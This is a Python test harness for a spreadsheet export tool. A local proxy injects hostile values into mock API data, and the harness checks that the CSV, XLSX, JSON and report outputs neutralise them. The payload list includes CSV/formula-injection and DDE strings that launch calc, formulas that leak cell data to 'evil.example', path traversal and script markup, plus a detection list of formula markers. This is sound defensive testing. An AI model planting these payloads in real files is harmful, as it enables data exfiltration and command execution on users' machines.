"""The hostile-data run: every text and number field of every dataset, made hostile, pushed
through every output — ``fetch --out`` (csv, xlsx, json), the headless refresh, the report (one
workbook and ``--split``) and every worksheet function — with the checks that matter.

Used by ``tests/test_evidence_hostile.py`` and ``benchmarks/bench_faults.py --hostile``.

How the data becomes hostile: :class:`HostileProxy` stands between the client and the embedded
mock (a test-only transform of the mock's answers, on 127.0.0.1). In every answer it prefixes
each text of a record (not dates or links) with a payload, ``payload + original`` — so a value
stays unique and the proxy can map it back when the client sends it as a filter or in a path
(ids keep working end to end) — replaces numbers (``mode="numbers"``) or puts junk into typed
fields (``mode="junk"``), and adds fields of its own (a formula-named field, nested junk).

The checks (:func:`run_hostile`), per operation:

- **no formula from API text** in any written workbook: each ``<f>`` of the package XML, with
  its string literals taken out, holds no payload's formula code;
- no CSV field a spreadsheet would run (OWASP triggers);
- headers and footers: ``&`` of the API doubled, no code from it;
- **nothing lost**: ``fetch --out x.json`` holds every hostile text the API sent for it;
- **no traceback**, and every refusal (exit 1 or 2, ``#ECORE!``) is one line.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import re
import threading
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, unquote, urlencode, urlsplit, urlunsplit

import requests

from ecore_xl.escaping import formula_like

#: text payloads: OWASP's formula triggers and DDE, spreadsheet and header/footer codes, control
#: and bidi characters, markup, paths, template syntax, odd numbers as text, long text
TEXT_PAYLOADS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "\ufeff=1+1",
    "＝1+1",
    " =1+1",
    "'=1+1",
    "=",
    "-",
    "@",
    "S&P Strom & Gas",
    '&P of &N &D &T &F &A &"Arial,Bold"&72&KFF0000',
    "&&",
    "\x00\x01\x07\x08\x0b\x0c\x1b[31m",
    "\u202egnp.exe",
    "\u200b\u200d\u2060",
    "🔥⚡️",
    "<script>alert(1)</script>",
    "]]><x/>&amp;&lt;",
    "{{legal_entity}}{{month}}",
    "%s%n%x{0}",
    "../../../../tmp/evil",
    "C:\\Windows\\System32\\",
    "CON",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "0042",
    "1/2",
    "1,5",
    "a,b",
    '"quoted"',
    "9999-12-31T23:59:59Z",
    "line\nbreak\r\nand more",
    "x" * 40_000,
)
#: formula code that must never appear in an <f> element outside a string literal
FORMULA_MARKERS: tuple[str, ...] = (
    "HYPERLINK", "cmd|", "DDE(", "IMPORTXML", "WEBSERVICE", "SUM(1+1)", "calc'", "notepad",
    "evil.example",
)  # fmt: skip
#: numbers for number fields (valid JSON): beyond 2**53 and 2**63, 23 digits, huge, tiny, signs
NUMBER_PAYLOADS: tuple[Any, ...] = (
    2**63,
    -(2**63) - 1,
    2**53 + 1,
    12345678901234567890123,
    1e308,
    -1e308,
    5e-324,
    -0.0,
    0,
    1.7976931348623157e308,
    123456789.123456789,
)
#: what a typed field must refuse: numbers as text that is no number, objects, junk dates
JUNK_PAYLOADS: tuple[Any, ...] = (
    "NaN",
    "Infinity",
    "1,5",
    "12 MWh",
    {"value": 1},
    [1, 2],
    "2026-13-45",
    "yesterday",
    True,
)

#: the vocabulary the report reads (a hostile unit is refused at once, correctly): a round that
#: spares these gets the report's tables and placeholders filled with every other hostile text
SPARED = frozenset({"unit", "currency", "type", "status", "commodity", "productType",
                    "loadProfile", "quality", "component", "pricingModel", "entityType",
                    "parentType", "childType"})  # fmt: skip
_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}")
_LINK_KEYS = {"nextLink", "@odata.nextLink"}


# ---- the transforming proxy -------------------------------------------------------------------


@dataclass
class Hostility:
    """How answers are made hostile, and what was sent (for the "nothing lost" check)."""

    mode: str = "text"  # "text", "numbers" or "junk"
    #: fields left as they are (``SPARED``: the codes the report converts, e.g. units)
    spare: frozenset[str] = frozenset()
    reverse: dict[str, str] = field(default_factory=dict)
    sent_texts: dict[str, set[str]] = field(default_factory=dict)  # path -> hostile texts
    texts_sent: int = 0
    numbers_sent: int = 0
    junk_sent: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)
    _counter: Iterator[int] = field(default_factory=itertools.count)

    def text(self, value: str, path: str, *, exact: bool = True) -> str:
        """``payload + value`` (dates and links as they are); ``exact``: a text the json output
        must hold as is (not one inside a list, which becomes ``a;b`` text)."""
        if _DATE.match(value) or value.startswith(("http://", "https://")):
            return value
        payload = TEXT_PAYLOADS[sum(map(ord, value)) % len(TEXT_PAYLOADS)]
        hostile = payload + value
        with self.lock:
            self.texts_sent += 1
            self.reverse[hostile] = value
            if exact:
                self.sent_texts.setdefault(path, set()).add(hostile)
        return hostile

    def number(self, value: Any) -> Any:
        if self.mode == "numbers":
            self.numbers_sent += 1
            return NUMBER_PAYLOADS[next(self._counter) % len(NUMBER_PAYLOADS)]
        return value

    def record(self, record: dict[str, Any], path: str, index: int) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for key, value in record.items():
            out[key] = value if key in self.spare else self.value(key, value, path, False)
        if self.mode == "junk" and out:
            typed = [k for k, v in record.items() if _typed(v)]
            if typed:
                self.junk_sent += 1
                out[typed[index % len(typed)]] = JUNK_PAYLOADS[index % len(JUNK_PAYLOADS)]
        payload = TEXT_PAYLOADS[index % len(TEXT_PAYLOADS)]
        out["hostileNote"] = self.text("note-" + str(index), path)
        out[payload[:40] or "empty"] = "-2+3"  # a field name from the API: a column header
        out["nested"] = {"a": {"b": {"c": {"d": {"e": {"f": {"g": payload[:100]}}}}}}, "l": [
            payload[:100], {"x": [1, {"y": "=1+1"}]}]}  # fmt: skip
        return out

    def value(self, key: str, value: Any, path: str, in_list: bool) -> Any:
        if isinstance(value, bool) or value is None or key in self.spare:
            return value
        if isinstance(value, str):
            return value if key in _LINK_KEYS else self.text(value, path, exact=not in_list)
        if isinstance(value, int | float):
            return self.number(value)
        if isinstance(value, list):
            return [self.value(key, v, path, True) for v in value]
        if isinstance(value, dict):
            return {k: self.value(k, v, path, in_list) for k, v in value.items()}
        return value

    def original(self, value: str) -> str:
        """A value the client sends back (a filter, a path segment) as the mock knows it."""
        with self.lock:
            return self.reverse.get(value, value)


def _typed(value: Any) -> bool:
    """A number or a date: a field whose type the catalogue declares."""
    if isinstance(value, bool):
        return False
    return isinstance(value, int | float) or (isinstance(value, str) and bool(_DATE.match(value)))


class HostileProxy:
    """An HTTP server on 127.0.0.1 that forwards to ``upstream`` and makes its answers hostile."""

    def __init__(self, upstream: str, hostility: Hostility) -> None:
        self.upstream = upstream.rstrip("/")
        self.hostility = hostility
        self._session = requests.Session()
        self._session.trust_env = False
        outer = self

        class _H(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                outer._forward(self, "GET")

            def do_POST(self) -> None:
                outer._forward(self, "POST")

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), _H)
        self._httpd.daemon_threads = True
        self.origin = f"http://127.0.0.1:{self._httpd.server_address[1]}"
        self._thread = threading.Thread(
            target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    def env(self, mock_env: dict[str, str]) -> dict[str, str]:
        """The mock's ``ECORE_*`` settings, pointed at this proxy."""
        return {k: v.replace(self.upstream, self.origin) for k, v in mock_env.items()}

    def _forward(self, h: BaseHTTPRequestHandler, method: str) -> None:
        parts = urlsplit(h.path)
        host = self.hostility
        segments = [quote(host.original(unquote(s)), safe="") for s in parts.path.split("/")]
        query = urlencode([(k, host.original(v)) for k, v in parse_qsl(parts.query)])
        url = self.upstream + urlunsplit(("", "", "/".join(segments), query, ""))
        headers = {
            k: v for k, v in h.headers.items() if k.lower() not in ("host", "content-length")
        }
        body = h.rfile.read(int(h.headers.get("Content-Length") or 0)) if method == "POST" else None
        reply = self._session.request(method, url, headers=headers, data=body, timeout=60)
        payload = reply.content
        is_data = method == "GET" and reply.status_code == 200 and parts.path.startswith("/v1/")
        if is_data:
            payload = self._hostile(json.loads(payload), parts.path[len("/v1") :])
        h.send_response(reply.status_code)
        for name in ("Content-Type", "Retry-After", "WWW-Authenticate", "Link"):
            if name in reply.headers:
                h.send_header(name, reply.headers[name].replace(self.upstream, self.origin))
        h.send_header("Content-Length", str(len(payload)))
        h.end_headers()
        h.wfile.write(payload)

    def _hostile(self, body: Any, path: str) -> bytes:
        if isinstance(body, dict) and isinstance(body.get("value"), list):
            body["value"] = [self.hostility.record(r, path, i) if isinstance(r, dict) else r
                             for i, r in enumerate(body["value"])]  # fmt: skip
            for key in _LINK_KEYS & set(body):
                body[key] = str(body[key]).replace(self.upstream, self.origin)
        elif isinstance(body, dict):
            body = self.hostility.record(body, path, 0)
        return json.dumps(body, ensure_ascii=False).encode()

    def __enter__(self) -> HostileProxy:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(timeout=5)
        self._session.close()


# ---- checks -------------------------------------------------------------------------------------

_F = re.compile(r"<f(?:\s[^>]*)?>(.*?)</f>", re.S)
_LITERAL = re.compile(r'"(?:[^"]|"")*"|&quot;(?:(?!&quot;).)*&quot;', re.S)
_HF = re.compile(r"<(odd|even|first)(Header|Footer)>(.*?)</\1\2>", re.S)


def api_formulas(path: Path) -> list[str]:
    """Formulas in a workbook's sheets that hold formula code from API text (should be none)."""
    bad: list[str] = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            xml = z.read(name).decode("utf-8", "replace")
            for formula in _F.findall(xml):
                code = _LITERAL.sub('""', formula)
                if any(marker in code for marker in FORMULA_MARKERS):
                    bad.append(f"{name}: {formula[:80]}")
    return bad


def header_footer_codes(path: Path, values: set[str]) -> list[str]:
    """Header/footer texts in which an API value's ``&`` was not doubled."""
    bad: list[str] = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            xml = z.read(name).decode("utf-8", "replace")
            for *_, text in _HF.findall(xml):
                plain = text.replace("&amp;", "&")
                for value in values:
                    if "&" in value and value.split("&", 1)[0] in plain and value in plain:
                        bad.append(f"{name}: {plain[:80]}")
    return bad


_PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def csv_triggers(path: Path) -> list[str]:
    """CSV fields that a spreadsheet would read as a formula (a negative number is a number)."""
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        return [c[:40] for row in csv.reader(fh) for c in row
                if formula_like(c) and not _PLAIN_NUMBER.fullmatch(c)]  # fmt: skip


def json_lost(path: Path, sent: set[str]) -> list[str]:
    """Hostile texts the API sent that ``fetch --out x.json`` does not hold exactly (as a value,
    or inside one: a list field is ``a;b`` text, a deep object JSON text)."""
    data = json.loads(path.read_text(encoding="utf-8"))
    found: set[str] = set()

    def walk(v: Any) -> None:
        if isinstance(v, str):
            found.add(v)
            with contextlib.suppress(ValueError, TypeError):
                walk(json.loads(v))  # lists and objects are JSON text in a cell
        elif isinstance(v, list):
            for x in v:
                walk(x)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)

    walk(data)
    missing = [s for s in sent if s not in found]
    texts = "\x00".join(found)
    return sorted(s[:40] for s in missing if s not in texts)


# ---- the run ------------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What the hostile run found, per operation (a command or a worksheet-function call)."""

    tried: int = 0
    clean: int = 0
    refused: int = 0
    lost: int = 0
    problems: list[str] = field(default_factory=list)

    def ok(self) -> None:
        self.tried += 1
        self.clean += 1

    def refuse(self, label: str, message: str) -> None:
        self.tried += 1
        self.refused += 1
        lines = [line for line in message.splitlines() if line.startswith(("Error:", "#ECORE!"))]
        if len(lines) != 1 or "Traceback" in message or "unexpected" in message.lower():
            self.problems.append(f"{label}: not a one-line refusal: {message[:300]!r}")

    def lose(self, label: str, what: list[str]) -> None:
        self.tried += 1
        self.lost += 1
        self.problems.append(f"{label}: {what[:5]}")

    def add(self, other: Outcome) -> None:
        self.tried += other.tried
        self.clean += other.clean
        self.refused += other.refused
        self.lost += other.lost
        self.problems += other.problems


def _cli(env: dict[str, str], args: list[str]) -> Any:
    from click.testing import CliRunner

    from ecore_xl.cli import cli
    from ecore_xl.data import reset_service

    reset_service()
    result = CliRunner().invoke(cli, args, env=env)
    reset_service()
    return result


def _fetch_args(dataset: str, ids: dict[str, list[str]], start: str, end: str) -> list[str]:
    from ecore_xl.data.filters import join_ids

    span = ["--from", start, "--to", end]
    if dataset == "volumes":
        return ["--filter", "meterId=" + join_ids(ids["meters"]), *span, "--granularity", "day"]
    if dataset == "positions":
        return ["--filter", "portfolioId=" + join_ids(ids["portfolios"])]
    return []


def _hostile_ids(env: dict[str, str]) -> dict[str, list[str]]:
    """Ids as the user sees them (hostile, from the API), for the filters that need them."""
    from ecore_xl.config import Settings
    from ecore_xl.data import DataService

    svc = DataService(Settings.load(use_file=False, use_keyring=False, environ=env))
    try:
        return {name: [str(i) for i in svc.fetch(name)["id"]] for name in ("meters", "portfolios")}
    finally:
        svc.close()


def _command(out: Outcome, label: str, result: Any, check: Callable[[], list[str]]) -> None:
    crashed = result.exception is not None and not isinstance(result.exception, SystemExit)
    if crashed or result.exit_code not in (0, 1, 2):
        out.tried += 1
        out.problems.append(f"{label}: crashed ({result.exception!r}): {result.output[-300:]}")
        return
    if result.exit_code == 0:
        found = check()
        out.lose(label, found) if found else out.ok()
        return
    out.refuse(label, result.output)


def run_outputs(
    env: dict[str, str], hostility: Hostility, work: Path, *, month: str, start: str, end: str
) -> Outcome:
    """Every output once on the hostile API behind ``env``; the outcome."""
    from ecore_xl.catalogue import builtin_catalogue

    out = Outcome()
    work.mkdir(parents=True, exist_ok=True)
    try:
        ids = _hostile_ids(env)
    except Exception as exc:  # refused already: the junk round may refuse the meters
        from ecore_xl.errors import EcoreError

        if not isinstance(exc, EcoreError):
            raise
        out.refuse("ids", f"Error: {exc}")
        ids = {"meters": [], "portfolios": []}
    for ds in builtin_catalogue():
        for suffix in ("csv", "xlsx", "json"):
            target = work / f"{ds.name}.{suffix}"
            args = ["fetch", ds.name, *_fetch_args(ds.name, ids, start, end), "--out", str(target)]
            result = _cli(env, args)

            def check(target: Path = target, suffix: str = suffix, ds: Any = ds) -> list[str]:
                if suffix == "csv":
                    return csv_triggers(target)
                if suffix == "xlsx":
                    return api_formulas(target)
                sent = hostility.sent_texts.get(ds.path if "{" not in ds.path else "", set())
                return json_lost(target, sent) if ds.name in _EXACT_JSON else []

            _command(out, f"fetch {ds.name} --out .{suffix}", result, check)
    book = work / "book.xlsx"
    _new_book(book, start, end)
    result = _cli(env, ["refresh", str(book), "--datasets", ",".join(builtin_catalogue().names())])
    _command(out, "refresh", result, lambda: api_formulas(book))
    report = work / "report.xlsx"
    result = _cli(env, ["report", "--month", month, "--out", str(report)])
    values = set(hostility.reverse)
    _command(out, "report", result,
             lambda: api_formulas(report) + header_footer_codes(report, values))  # fmt: skip
    split = work / "split"
    result = _cli(env, ["report", "--month", month, "--split", "--out", str(split / "r.xlsx")])

    def split_check() -> list[str]:
        """One file per legal entity, each in the folder asked for (an id like ``../../x``
        names no path), no formula or footer code from API text in any."""
        made = [p for p in split.rglob("*") if p.is_file()]
        outside = [str(p) for p in made if p.resolve().parent != split.resolve()]
        found = [f for p in made for f in api_formulas(p) + header_footer_codes(p, values)]
        return outside + found + ([] if made else ["no split report written"])

    _command(out, "report --split", result, split_check)
    out.add(run_functions(env, ids, start, end))
    return out


#: datasets whose json output holds every text the proxy sent for their path as is (the others
#: combine or explode records: invoice lines, volumes grids)
_EXACT_JSON = {"legal-entities", "business-units", "meters", "relationships", "contracts",
               "clicks", "portfolios", "invoices"}  # fmt: skip


def _new_book(path: Path, start: str, end: str) -> None:
    import openpyxl

    from ecore_xl.excel.sheets import OpenpyxlWriter
    from ecore_xl.excel.workbook_settings import ensure_settings_sheet

    wb = openpyxl.Workbook()
    blank = wb.active
    ensure_settings_sheet(OpenpyxlWriter(wb))
    wb.remove(blank)
    for name, value in (("ecore.from", start), ("ecore.to", end), ("ecore.granularity", "day")):
        ((sheet, cell),) = wb.defined_names[name].destinations
        wb[sheet][cell.replace("$", "")].value = value
    wb.save(path)


def run_functions(env: dict[str, str], ids: dict[str, list[str]], start: str, end: str) -> Outcome:
    """Every worksheet function on the hostile API: a table of plain values or one line."""
    import datetime as dt

    from ecore_xl.config import Settings
    from ecore_xl.data import DataService, reset_service, set_service
    from ecore_xl.excel import udfs

    out = Outcome()
    set_service(DataService(Settings.load(use_file=False, use_keyring=False, environ=env)))
    meter = ids["meters"][:1] or ["M-1"]
    portfolio = ids["portfolios"][:1] or ["P-1"]
    calls: list[tuple[str, tuple[Any, ...]]] = [
        ("ECORE_VOLUMES", ([meter], start, end, "day")),
        ("ECORE_POSITIONS", (portfolio[0],)),
        ("ECORE_VOLUME_TOTAL", ("meter:" + meter[0], start, end)),
        ("ECORE_HEDGE_RATIO", (portfolio[0], start[:7])),
        ("ECORE_OPEN_POSITION", (portfolio[0], start[:7])),
        ("ECORE_GET", ("/contracts",)),
        ("ECORE_GET", ("/contracts", "status=active")),
        ("ECORE_STATUS", ()),
    ]
    calls += [(n, ()) for n in udfs.udf_names() if n not in {c for c, _ in calls}]
    try:
        for name, args in calls:
            value = getattr(udfs, name)(*args)
            label = f"{name}{args!r:.60}"
            if isinstance(value, str) and value.startswith("#ECORE! "):
                out.refuse(label, value)
            elif isinstance(value, list):
                plain = (str, float, bool, dt.datetime)
                bad = [
                    v for row in value for v in row if v is not None and not isinstance(v, plain)
                ]
                out.lose(label, [repr(b) for b in bad]) if bad else out.ok()
            elif isinstance(value, float | int | str):
                out.ok()
            else:
                out.lose(label, [repr(value)[:80]])
    finally:
        reset_service()
    return out
